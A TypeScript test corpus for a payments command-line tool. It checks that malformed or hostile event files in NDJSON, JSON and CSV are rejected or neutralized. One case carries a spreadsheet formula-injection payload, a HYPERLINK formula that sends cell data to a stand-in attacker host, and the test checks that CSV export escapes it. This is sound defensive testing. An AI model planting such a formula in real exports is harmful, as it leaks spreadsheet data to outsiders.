import type { CorpusCase } from './harness.js';

/**
 * Event files through `payops payin run FILE` (NDJSON, JSON array, CSV), on a book where the
 * checkouts of test/corpus/given/book.ndjson are captured and ord_g3 (EUR) was delivered. The
 * documented behaviour: a bad record is reported as FILE:LINE field: reason and written to the
 * rejects file, the good records go on (exit 3); nothing of a bad record reaches the books.
 */
const line = (n: number, field: string) => `:${n} ${field}: `;

export const EVENT_CASES: readonly CorpusCase[] = [
  // Line endings, byte order marks, blank lines.
  {
    name: 'ndjson with a UTF-8 BOM',
    input: 'events/bom.ndjson',
    expect: { exit: 0, added: ['bom_1', 'bom_2'] },
  },
  {
    name: 'ndjson with CRLF line endings',
    input: 'events/crlf.ndjson',
    expect: { exit: 0, added: ['crlf_1', 'crlf_2'] },
  },
  {
    name: 'ndjson with lone CR line endings',
    input: 'events/cr-only.ndjson',
    expect: { exit: 0, added: ['cr_1', 'cr_2'] },
  },
  {
    name: 'ndjson with blank and whitespace-only lines',
    input: 'events/blank-lines.ndjson',
    expect: { exit: 0, added: ['blank_1', 'blank_2'] },
  },

  // Malformed JSON: the line is refused, the others go on.
  {
    name: 'a line that is not valid JSON',
    input: 'events/malformed-json.ndjson',
    expect: {
      exit: 3,
      message: `${line(2, 'json')}not valid JSON`,
      added: ['mal_1', 'mal_3'],
      rejected: 1,
    },
  },
  {
    name: 'a last line cut short',
    input: 'events/truncated-last-line.ndjson',
    expect: {
      exit: 3,
      message: `${line(2, 'json')}not valid JSON`,
      added: ['trunc_1'],
      rejected: 1,
    },
  },
  {
    name: 'lines that are JSON but not objects',
    input: 'events/not-an-object.ndjson',
    expect: {
      exit: 3,
      message: `${line(1, 'event')}expected a JSON object`,
      added: ['notobj_5'],
      rejected: 4,
    },
  },
  {
    name: 'a key twice in one object (last one would win: 10.00 read, 9999.00 charged), escaped spellings and nested objects included',
    input: 'events/duplicate-key.ndjson',
    expect: {
      exit: 3,
      message: `${line(1, 'orders[0].amount')}key "amount" appears twice`,
      added: ['dupk_ok'],
      rejected: 3,
    },
  },
  {
    name: 'two objects on one line',
    input: 'events/two-objects-one-line.ndjson',
    expect: { exit: 3, message: `${line(1, 'json')}not valid JSON`, added: ['two_3'], rejected: 1 },
  },
  {
    name: 'a NUL byte inside a string',
    input: 'events/nul-byte.ndjson',
    expect: { exit: 3, message: `${line(1, 'json')}not valid JSON`, added: ['nul_2'], rejected: 1 },
  },
  {
    name: 'a 10 MB line between good ones',
    generated: {
      name: 'ten-megabytes.ndjson',
      bytes: () => {
        const event = (id: string, note = '') =>
          `{"eventId":"${id}","type":"pay_in","occurredAt":"2026-11-23T12:00:00Z","currency":"USD","payer":{"id":"buyer_1"},"paymentToken":"tok_visa","orders":[{"orderId":"ord_${id}","sellerId":"seller_1","amount":"12.50"${note ? `,"metadata":{"note":"${note}"}` : ''}}]}`;
        return Buffer.from(
          [
            event('huge_1'),
            event('huge_2', 'x'.repeat(10 * 1024 * 1024)),
            event('huge_3'),
            '',
          ].join('\n'),
        );
      },
    },
    expect: {
      exit: 3,
      message:
        /:2 size: the line is 1048\d{4} bytes, more than the 1048576 \(1 MiB\) an event may take/,
      added: ['huge_1', 'huge_3'],
      rejected: 1,
    },
  },

  // Encodings: refused where they are, by byte offset; never replaced.
  {
    name: 'bytes that are not UTF-8 (Latin-1, an overlong form)',
    input: 'events/invalid-utf8.ndjson',
    expect: {
      exit: 3,
      message: /:2 encoding: invalid UTF-8 at byte \d+ of the file \(0xE9\)/,
      added: ['utf_1', 'utf_4'],
      rejected: 2,
    },
  },
  {
    name: 'a surrogate encoded in UTF-8 bytes',
    input: 'events/encoded-surrogate.ndjson',
    expect: {
      exit: 3,
      message: /:1 encoding: invalid UTF-8 at byte \d+ of the file \(0xED\)/,
      added: ['sur_2'],
      rejected: 1,
    },
  },
  {
    name: 'a UTF-16 file',
    input: 'events/utf16.ndjson',
    expect: { exit: 3, message: ':1 encoding: the file is UTF-16LE', rejected: 1 },
  },

  // Text: printable and whole, or refused; formulas are data.
  {
    name: 'an escape sequence in metadata',
    input: 'events/control-escape-in-metadata.ndjson',
    expect: {
      exit: 3,
      message: `${line(1, 'orders[0].metadata')}text must be printable`,
      added: ['esc_2'],
      rejected: 1,
    },
  },
  {
    name: 'an unpaired surrogate in a seller name',
    input: 'events/lone-surrogate-seller-name.ndjson',
    expect: { exit: 3, message: line(1, 'seller.name'), rejected: 1 },
  },
  {
    name: 'a control character in a refund reason',
    input: 'events/control-char-refund-reason.ndjson',
    expect: { exit: 3, message: line(1, 'reason'), rejected: 1 },
  },
  {
    name: 'a spreadsheet formula as a seller name is kept as data, and neutralized in CSV',
    input: 'events/formula-seller-name.ndjson',
    expect: { exit: 0, added: ['formula_po'] },
    then: {
      args: ['report', 'sellers', '--csv'],
      stdout: `seller_1,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`,
    },
  },
  {
    name: 'spreadsheet formulas in metadata are kept as data',
    input: 'events/formula-in-metadata.ndjson',
    expect: { exit: 0, added: ['formula_meta'] },
  },

  // Amounts: decimal strings in the currency's decimals, positive, within bounds.
  {
    name: 'an amount as a JSON number',
    input: 'events/amount-json-number.ndjson',
    expect: {
      exit: 3,
      message: `${line(1, 'orders[0].amount')}amounts must be decimal strings such as "25.00", not JSON numbers (got 12.5)`,
      added: ['num_1_ok'],
      rejected: 1,
    },
  },
  {
    name: 'a negative amount',
    input: 'events/amount-negative.ndjson',
    expect: {
      exit: 3,
      message: `${line(1, 'orders[0].amount')}must be greater than zero`,
      added: ['neg_1_ok'],
    },
  },
  {
    name: 'a zero amount',
    input: 'events/amount-zero.ndjson',
    expect: {
      exit: 3,
      message: `${line(1, 'orders[0].amount')}must be greater than zero`,
      added: ['zero_1_ok'],
    },
  },
  {
    name: 'a negative zero amount',
    input: 'events/amount-negative-zero.ndjson',
    expect: { exit: 3, message: 'must be greater than zero', added: ['negzero_1_ok'] },
  },
  {
    name: 'three decimals in USD',
    input: 'events/amount-too-many-decimals-usd.ndjson',
    expect: {
      exit: 3,
      message: '"12.505" has more decimals than USD allows (2); payops never rounds input',
      added: ['dec_usd_ok'],
    },
  },
  {
    name: 'a decimal in JPY',
    input: 'events/amount-decimals-jpy.ndjson',
    expect: { exit: 3, message: 'more decimals than JPY allows (0)', added: ['dec_jpy_ok'] },
  },
  {
    name: 'four decimals in KWD',
    input: 'events/amount-decimals-kwd.ndjson',
    expect: { exit: 3, message: 'more decimals than KWD allows (3)', added: ['dec_kwd_ok'] },
  },
  {
    name: 'an amount beyond 64 bits',
    input: 'events/amount-beyond-64-bits.ndjson',
    expect: {
      exit: 3,
      message: 'is beyond the largest amount payops can hold',
      added: ['big64_ok'],
    },
  },
  {
    name: 'an amount of forty digits',
    input: 'events/amount-forty-digits.ndjson',
    expect: { exit: 3, message: 'is not a decimal amount', added: ['digits40_ok'] },
  },
  {
    name: 'an amount above what one order may be',
    input: 'events/amount-above-order-limit.ndjson',
    expect: {
      exit: 3,
      message: '"10000000000000.01" is more than one order may be (10000000000000.00 USD)',
      added: ['limit_1_ok'],
    },
  },
  {
    name: 'an amount with an exponent',
    input: 'events/amount-exponent.ndjson',
    expect: { exit: 3, message: '"1e3" is not a decimal amount', added: ['exp_1_ok'] },
  },
  {
    name: 'an amount with a plus sign',
    input: 'events/amount-plus-sign.ndjson',
    expect: { exit: 3, message: '"+5.00" is not a decimal amount', added: ['plus_1_ok'] },
  },
  {
    name: 'an amount with a thousands separator',
    input: 'events/amount-thousands-separator.ndjson',
    expect: { exit: 3, message: '"1,000.00" is not a decimal amount', added: ['thou_1_ok'] },
  },
  {
    name: 'an amount with a decimal comma',
    input: 'events/amount-comma-decimal.ndjson',
    expect: { exit: 3, message: '"12,50" is not a decimal amount', added: ['comma_1_ok'] },
  },
  {
    name: 'an amount starting with a dot',
    input: 'events/amount-leading-dot.ndjson',
    expect: { exit: 3, message: 'is not a decimal amount', added: ['ldot_1_ok'] },
  },
  {
    name: 'an amount ending with a dot',
    input: 'events/amount-trailing-dot.ndjson',
    expect: { exit: 3, message: 'is not a decimal amount', added: ['tdot_1_ok'] },
  },
  {
    name: 'an amount with a leading space',
    input: 'events/amount-whitespace.ndjson',
    expect: { exit: 3, message: 'is not a decimal amount', added: ['ws_1_ok'] },
  },
  {
    name: 'an amount in Arabic-Indic digits',
    input: 'events/amount-arabic-indic-digits.ndjson',
    expect: { exit: 3, message: 'is not a decimal amount', added: ['arabic_1_ok'] },
  },
  {
    name: 'an amount in hexadecimal',
    input: 'events/amount-hex.ndjson',
    expect: { exit: 3, message: '"0x10" is not a decimal amount', added: ['hex_1_ok'] },
  },
  {
    name: 'amounts that are objects, arrays, booleans, null or empty',
    input: 'events/amount-wrong-types.ndjson',
    expect: {
      exit: 3,
      message: 'expected a decimal string such as "25.00"',
      added: ['type_ok'],
      rejected: 5,
    },
  },
  {
    name: 'a platform fee above the amount',
    input: 'events/fee-above-amount.ndjson',
    expect: {
      exit: 3,
      message: `${line(1, 'orders[0].platformFee')}13.00 is more than the order amount 12.50`,
      added: ['feehigh_1_ok'],
    },
  },
  {
    name: 'a negative platform fee',
    input: 'events/fee-negative.ndjson',
    expect: {
      exit: 3,
      message: `${line(1, 'orders[0].platformFee')}must not be negative`,
      added: ['feeneg_1_ok'],
    },
  },
  {
    name: 'a platform fee as a JSON number',
    input: 'events/fee-json-number.ndjson',
    expect: {
      exit: 3,
      message: `${line(1, 'orders[0].platformFee')}amounts must be decimal strings`,
      added: ['feenum_ok'],
    },
  },

  // Currencies.
  {
    name: 'unknown, lower-case, empty, metal and numeric currencies',
    input: 'events/currency-unknown.ndjson',
    expect: {
      exit: 3,
      message: `${line(1, 'currency')}"XXX" is not an ISO 4217 currency code`,
      added: ['cur_ok'],
      rejected: 7,
    },
  },

  // Times: ISO 8601 with a zone, a real calendar time.
  {
    name: 'a time without a zone',
    input: 'events/date-without-zone.ndjson',
    expect: { exit: 3, message: 'payops does not guess time zones', added: ['tz_1_ok'] },
  },
  {
    name: 'a day-first date',
    input: 'events/date-day-first.ndjson',
    expect: {
      exit: 3,
      message: `${line(1, 'occurredAt')}"23/11/2026" is not an ISO 8601 time`,
      added: ['dmy_1_ok'],
    },
  },
  {
    name: 'the 30th of February',
    input: 'events/date-impossible.ndjson',
    expect: { exit: 3, message: 'is not a real date and time', added: ['feb30_1_ok'] },
  },
  {
    name: 'hour 25',
    input: 'events/date-hour-25.ndjson',
    expect: { exit: 3, message: 'is not a real date and time', added: ['h25_1_ok'] },
  },
  {
    name: 'an offset without a colon',
    input: 'events/date-offset-without-colon.ndjson',
    expect: { exit: 3, message: 'is not an ISO 8601 time', added: ['off_1_ok'] },
  },
  {
    name: 'a Unix timestamp',
    input: 'events/date-epoch-number.ndjson',
    expect: {
      exit: 3,
      message: `${line(1, 'occurredAt')}expected an ISO 8601 time`,
      added: ['epoch_1_ok'],
    },
  },
  {
    name: 'microseconds',
    input: 'events/date-microseconds.ndjson',
    expect: { exit: 3, message: 'is not an ISO 8601 time', added: ['micro_1_ok'] },
  },
  {
    name: 'an offset of 25 hours',
    input: 'events/date-offset-out-of-range.ndjson',
    expect: { exit: 3, message: 'is not a real date and time', added: ['off25_1_ok'] },
  },
  {
    name: 'a lower-case t and z',
    input: 'events/date-lowercase-z.ndjson',
    expect: { exit: 3, message: 'is not an ISO 8601 time', added: ['lowz_1_ok'] },
  },
  {
    name: 'a time with an offset is accepted',
    input: 'events/date-with-offset.ndjson',
    expect: { exit: 0, added: ['offset_ok'] },
  },

  // Ids, types, structure.
  {
    name: 'event ids missing, numeric, spaced, too long or a formula',
    input: 'events/event-id-bad.ndjson',
    expect: { exit: 3, message: `${line(1, 'eventId')}required`, added: ['eid_ok'], rejected: 5 },
  },
  {
    name: 'an unknown event type',
    input: 'events/unknown-type.ndjson',
    expect: {
      exit: 3,
      message: `${line(1, 'type')}expected "pay_in", "pay_out" or "refund"`,
      added: ['typ_ok'],
    },
  },
  {
    name: 'a misspelled field gets a did-you-mean (order, seller and refund fields)',
    input: 'events/misspelled-field.ndjson',
    expect: {
      exit: 3,
      message:
        /:1 orders\[0\]\.platfromFee: unknown field \(did you mean "platformFee"\?\)[\s\S]*:2 seller\.acount: unknown field \(did you mean "account"\?\)[\s\S]*:3 reasn: unknown field \(did you mean "reason"\?\)/,
      added: ['typo_ok'],
      rejected: 3,
    },
  },
  {
    name: 'unknown fields, __proto__ included',
    input: 'events/unknown-field.ndjson',
    expect: { exit: 3, message: `${line(1, 'amnt')}unknown field`, added: ['fld_ok'], rejected: 2 },
  },
  {
    name: 'orders empty, not an array, 101 of them, or an order id twice',
    input: 'events/orders-bad.ndjson',
    expect: {
      exit: 3,
      message: `${line(1, 'orders')}expected a non-empty array of orders`,
      added: ['ord_ok'],
      rejected: 4,
    },
  },
  {
    name: 'a card number as the payment token, never copied to the rejects file',
    input: 'events/card-number-token.ndjson',
    expect: {
      exit: 3,
      message: `${line(1, 'paymentToken')}looks like a card number`,
      added: ['pan_ok'],
      rejected: 2,
      rejectsWithout: ['4111111111111111', '4111 1111 1111 1111'],
    },
  },
  {
    name: 'a card number in any field (seller id, metadata text, payer, a metadata key) is refused, never echoed',
    input: 'events/card-number-anywhere.ndjson',
    expect: {
      exit: 3,
      message: `${line(1, 'orders[0].sellerId')}looks like a card number`,
      added: ['panany_ok'],
      rejected: 4,
      rejectsWithout: [
        '4111 1111 1111 1111',
        '4111111111111111',
        '5555-5555-5555-4444',
        '378282246310005',
        '4000056655665556',
      ],
    },
  },
  {
    name: 'card numbers written with dots, slashes, underscores, double, no-break or zero-width spaces, or full-width digits are refused, never echoed',
    input: 'events/card-number-separators.ndjson',
    expect: {
      exit: 3,
      message: `${line(1, 'orders[0].metadata.note')}looks like a card number`,
      added: ['pansep_ok'],
      rejected: 7,
      rejectsWithout: [
        '4111111111111111',
        '4111.1111',
        '4111\u00a01111',
        '4111  1111',
        '4111/1111',
        '4111_1111',
        '\uff14\uff11\uff11\uff11',
        '4111\u200b1111',
      ],
    },
  },
  {
    name: 'an amount whose digits fail the Luhn check is not taken for a card number',
    input: 'events/amount-not-a-card.ndjson',
    expect: {
      exit: 3,
      message: `${line(1, 'orders[0].amount')}`,
      added: ['notcard_ok'],
      rejected: 1,
      rejectsWithout: ['[card number'],
    },
  },
  {
    name: 'an empty event file says "0 events"',
    input: 'events/empty.ndjson',
    expect: { exit: 0, message: 'empty.ndjson: 0 events' },
  },
  {
    name: 'metadata nested 50 levels',
    input: 'events/metadata-too-deep.ndjson',
    expect: {
      exit: 3,
      message: `${line(1, 'orders[0].metadata')}nested deeper than 8 levels`,
      added: ['deep_ok'],
    },
  },
  {
    name: 'metadata nested 100,000 levels',
    input: 'events/metadata-very-deep.ndjson',
    expect: {
      exit: 3,
      message: `${line(1, 'orders[0].metadata')}nested deeper than 8 levels`,
      added: ['deeper_ok'],
    },
  },
  {
    name: 'metadata over 2 KB',
    input: 'events/metadata-too-large.ndjson',
    expect: { exit: 3, message: 'larger than 2048 bytes', added: ['large_ok'] },
  },
  {
    name: 'metadata that is not an object',
    input: 'events/metadata-not-object.ndjson',
    expect: {
      exit: 3,
      message: `${line(1, 'orders[0].metadata')}expected an object`,
      added: ['metastr_ok'],
    },
  },

  // Duplicates and references.
  {
    name: 'an event again with the same content is a duplicate',
    input: 'events/duplicate-same-content.ndjson',
    expect: { exit: 0 },
  },
  {
    name: 'an event id again with other content is a conflict; the original stands',
    input: 'events/duplicate-different-content.ndjson',
    expect: {
      exit: 3,
      message: `${line(1, 'eventId')}given_1 was already accepted with different content (conflict); the original stands`,
    },
  },
  {
    name: 'an event id twice in one file with other content',
    input: 'events/duplicate-in-file-different-content.ndjson',
    expect: {
      exit: 3,
      message: `${line(2, 'eventId')}dupf_1 was already accepted with different content`,
      added: ['dupf_1'],
    },
  },
  {
    name: 'an event twice in one file with the same content',
    input: 'events/duplicate-in-file-same-content.ndjson',
    expect: { exit: 0, added: ['dups_1'] },
  },
  {
    name: 'an order id that belongs to another event',
    input: 'events/order-of-another-event.ndjson',
    expect: {
      exit: 3,
      message: `${line(1, 'orders[0].orderId')}ord_g1 already belongs to event given_1`,
      added: ['steal_ok'],
    },
  },
  {
    name: 'a pay_out for an order that does not exist',
    input: 'events/pay-out-unknown-order.ndjson',
    expect: { exit: 3, message: line(1, 'orderId') },
  },
  {
    name: 'a pay_out naming another seller',
    input: 'events/pay-out-other-seller.ndjson',
    expect: { exit: 3, message: line(1, 'seller.id') },
  },
  {
    name: 'a pay_out with an IBAN whose checksum fails',
    input: 'events/pay-out-bad-iban.ndjson',
    expect: { exit: 3, message: `${line(1, 'seller.account.iban')}is not a valid IBAN` },
  },
  {
    name: 'a second pay_out of a released order',
    input: 'events/pay-out-released-twice.ndjson',
    expect: { exit: 3, message: line(1, 'orderId') },
  },
  {
    name: 'a refund of an order that does not exist',
    input: 'events/refund-unknown-order.ndjson',
    expect: { exit: 3, message: line(1, 'orderId') },
  },
  {
    name: 'a refund beyond the capture',
    input: 'events/refund-over-capture.ndjson',
    expect: { exit: 3, message: line(1, 'amount') },
  },
  {
    name: 'a refund amount as a JSON number',
    input: 'events/refund-json-number.ndjson',
    expect: { exit: 3, message: `${line(1, 'amount')}amounts must be decimal strings` },
  },
  {
    name: 'a refund with more decimals than the order currency',
    input: 'events/refund-too-many-decimals.ndjson',
    expect: { exit: 3, message: line(1, 'amount') },
  },

  // --all-or-nothing.
  {
    name: '--all-or-nothing with one bad line writes nothing',
    input: 'events/all-or-nothing-one-bad.ndjson',
    args: ['--all-or-nothing'],
    expect: { exit: 3, message: `${line(2, 'currency')}"XXX"`, rejected: 1 },
  },
  {
    name: '--all-or-nothing with every line good',
    input: 'events/all-or-nothing-all-good.ndjson',
    args: ['--all-or-nothing'],
    expect: { exit: 0, added: ['aong_1', 'aong_2'] },
  },

  // JSON arrays.
  {
    name: 'a JSON array with a BOM and CRLF',
    input: 'events/json-bom-crlf.json',
    expect: { exit: 0, added: ['jb_1', 'jb_2'] },
  },
  {
    name: 'a JSON array cut short',
    input: 'events/json-truncated.json',
    expect: {
      exit: 3,
      message: 'json: the JSON array is not closed (truncated file?)',
      added: ['jt_1'],
    },
  },
  {
    name: 'a JSON array with a trailing comma',
    input: 'events/json-trailing-comma.json',
    expect: { exit: 3, message: 'trailing comma before "]"', added: ['jtc_1'] },
  },
  {
    name: 'a JSON array element with a key twice',
    input: 'events/json-duplicate-key.json',
    expect: {
      exit: 3,
      message: `${line(2, 'orders[0].amount')}key "amount" appears twice`,
      added: ['jdup_2'],
      rejected: 1,
    },
  },
  {
    name: 'a JSON array missing a comma',
    input: 'events/json-missing-comma.json',
    expect: {
      exit: 3,
      message: `${line(2, 'json')}missing "," before this element`,
      added: ['jmc_1', 'jmc_3'],
    },
  },
  {
    name: 'two JSON arrays one after the other',
    input: 'events/json-two-arrays.json',
    expect: { exit: 3, message: 'unexpected content after the closing "]"', added: ['j2a_1'] },
  },
  {
    name: 'JSON array elements that are not objects',
    input: 'events/json-element-not-object.json',
    expect: { exit: 3, message: 'event: expected a JSON object', added: ['jno_3'], rejected: 2 },
  },
  {
    name: 'a JSON array element with bytes that are not UTF-8',
    input: 'events/json-invalid-utf8.json',
    expect: {
      exit: 3,
      message: /:2 encoding: invalid UTF-8 at byte \d+ of the file \(0xE9\)/,
      added: ['ju_1', 'ju_3'],
    },
  },
  { name: 'an empty JSON array', input: 'events/json-empty-array.json', expect: { exit: 0 } },
  {
    name: 'brackets, braces and escaped quotes inside JSON strings',
    input: 'events/json-brackets-in-strings.json',
    expect: { exit: 0, added: ['jbr_1', 'jbr_2'] },
  },
  {
    name: 'a pretty-printed object where a JSON array is expected',
    input: 'events/json-top-level-object.json',
    args: ['--format', 'json'],
    expect: { exit: 3, message: ':1 json: expected a JSON array of events' },
  },
  {
    name: 'a JSON array element of 10 MB',
    generated: {
      name: 'ten-megabytes.json',
      bytes: () =>
        Buffer.from(
          `[{"eventId":"jhuge_1","type":"pay_in","occurredAt":"2026-11-23T12:00:00Z","currency":"USD","payer":{"id":"buyer_1"},"paymentToken":"tok_visa","orders":[{"orderId":"ord_jhuge_1","sellerId":"seller_1","amount":"1.00","metadata":{"n":"${'y'.repeat(10 * 1024 * 1024)}"}}]},\n{"eventId":"jhuge_2","type":"pay_in","occurredAt":"2026-11-23T12:00:00Z","currency":"USD","payer":{"id":"buyer_1"},"paymentToken":"tok_visa","orders":[{"orderId":"ord_jhuge_2","sellerId":"seller_1","amount":"1.00"}]}]\n`,
        ),
    },
    expect: { exit: 3, message: /:1 size: the element is 1048\d{4} bytes/, added: ['jhuge_2'] },
  },

  // CSV.
  {
    name: 'CSV with a BOM and CRLF',
    input: 'events/csv-bom-crlf.csv',
    expect: { exit: 0, added: ['cb_1', 'cb_2'] },
  },
  {
    name: 'CSV separated by semicolons',
    input: 'events/csv-semicolon.csv',
    expect: {
      exit: 3,
      message: 'the header seems separated by ";": payops reads comma-separated CSV',
      rejected: 1,
    },
  },
  {
    name: 'CSV separated by tabs',
    input: 'events/csv-tab.csv',
    expect: { exit: 3, message: 'the header seems separated by "\\t"', rejected: 1 },
  },
  {
    name: 'CSV without a required column',
    input: 'events/csv-missing-column.csv',
    expect: { exit: 3, message: ':1 header: missing column(s) sellerId', rejected: 1 },
  },
  {
    name: 'CSV with an unknown column',
    input: 'events/csv-unknown-column.csv',
    expect: { exit: 3, message: 'unknown column(s) colour', rejected: 1 },
  },
  {
    name: 'CSV with a column given twice',
    input: 'events/csv-repeated-column.csv',
    expect: { exit: 3, message: 'column(s) amount given more than once', rejected: 1 },
  },
  {
    name: 'a CSV row missing a field',
    input: 'events/csv-row-missing-field.csv',
    expect: {
      exit: 3,
      message: 'csv: Invalid Record Length',
      added: ['cmf_1', 'cmf_3'],
      rejected: 1,
    },
  },
  {
    name: 'a CSV row with a field too many',
    input: 'events/csv-row-extra-field.csv',
    expect: {
      exit: 3,
      message: 'csv: Invalid Record Length',
      added: ['cef_1', 'cef_3'],
      rejected: 1,
    },
  },
  {
    name: 'the unreadable first row of a checkout rejects the whole checkout',
    input: 'events/csv-first-row-unreadable.csv',
    expect: {
      exit: 3,
      message: 'line 2 of event cfr_1 could not be read, so the whole checkout is rejected',
      added: ['cfr_2'],
      rejected: 2,
    },
  },
  {
    name: 'a CSV cut short in its last row',
    input: 'events/csv-cut-short.csv',
    expect: {
      exit: 3,
      message: 'does not end with a line break, so the file may have been cut short',
      added: ['ccs_1'],
      rejected: 1,
    },
  },
  // The unclosed row's eventId cannot be read: it may be a row of the checkout before it, so that one is refused too.
  {
    name: 'a CSV quote never closed',
    input: 'events/csv-unclosed-quote.csv',
    expect: { exit: 3, message: 'Quote Not Closed', rejected: 2 },
  },
  {
    name: 'a CSV row with bytes that are not UTF-8',
    input: 'events/csv-invalid-utf8.csv',
    expect: {
      exit: 3,
      message: /:3 encoding: invalid UTF-8 at byte \d+ of the file \(0xE9\)/,
      added: ['ciu_1', 'ciu_3'],
      rejected: 1,
    },
  },
  {
    name: 'a formula in CSV metadata is kept as data',
    input: 'events/csv-formula-in-metadata.csv',
    expect: { exit: 0, added: ['cfm_1'] },
  },
  {
    name: 'rows of one checkout that disagree on currency',
    input: 'events/csv-rows-disagree.csv',
    expect: { exit: 3, message: 'rows of event cd_1 disagree on currency', added: ['cd_2'] },
  },
  {
    name: 'rows of one checkout that are not consecutive',
    input: 'events/csv-rows-not-consecutive.csv',
    expect: {
      exit: 3,
      message: 'cn_1 was already accepted with different content',
      added: ['cn_1', 'cn_2'],
    },
  },
  {
    name: 'CSV metadata that is not JSON',
    input: 'events/csv-metadata-not-json.csv',
    expect: { exit: 3, message: 'metadata: must be a JSON object', added: ['cmj_2'] },
  },
  {
    name: 'a CSV amount with a currency symbol',
    input: 'events/csv-currency-symbol.csv',
    expect: { exit: 3, message: '"$5.00" is not a decimal amount', added: ['csy_2'] },
  },
  {
    name: 'a CSV with a header and no rows',
    input: 'events/csv-header-only.csv',
    expect: { exit: 0 },
  },
  {
    name: 'a quoted CSV field spanning lines',
    input: 'events/csv-quoted-newline.csv',
    expect: { exit: 0, added: ['cqn_1', 'cqn_2'] },
  },
  {
    name: 'a formula as a CSV event id',
    input: 'events/csv-formula-as-id.csv',
    expect: { exit: 3, message: 'eventId: "=1+2" must be 1–100 letters', added: ['cfi_2'] },
  },
  {
    name: 'a CSV row of 10 MB',
    generated: {
      name: 'ten-megabytes.csv',
      bytes: () =>
        Buffer.from(
          `eventId,type,occurredAt,currency,payerId,paymentToken,orderId,sellerId,amount,platformFee,metadata\n` +
            `chuge_1,pay_in,2026-11-23T12:00:00Z,USD,buyer_1,tok_visa,ord_chuge_1,seller_1,1.00,,"{""n"":""${'z'.repeat(10 * 1024 * 1024)}""}"\n` +
            `chuge_2,pay_in,2026-11-23T12:00:00Z,USD,buyer_1,tok_visa,ord_chuge_2,seller_1,1.00,,\n`,
        ),
    },
    expect: {
      exit: 3,
      message: /:2 size: the row is 1048\d{4} bytes, more than the 1048576 \(1 MiB\)/,
      added: ['chuge_2'],
    },
  },
];
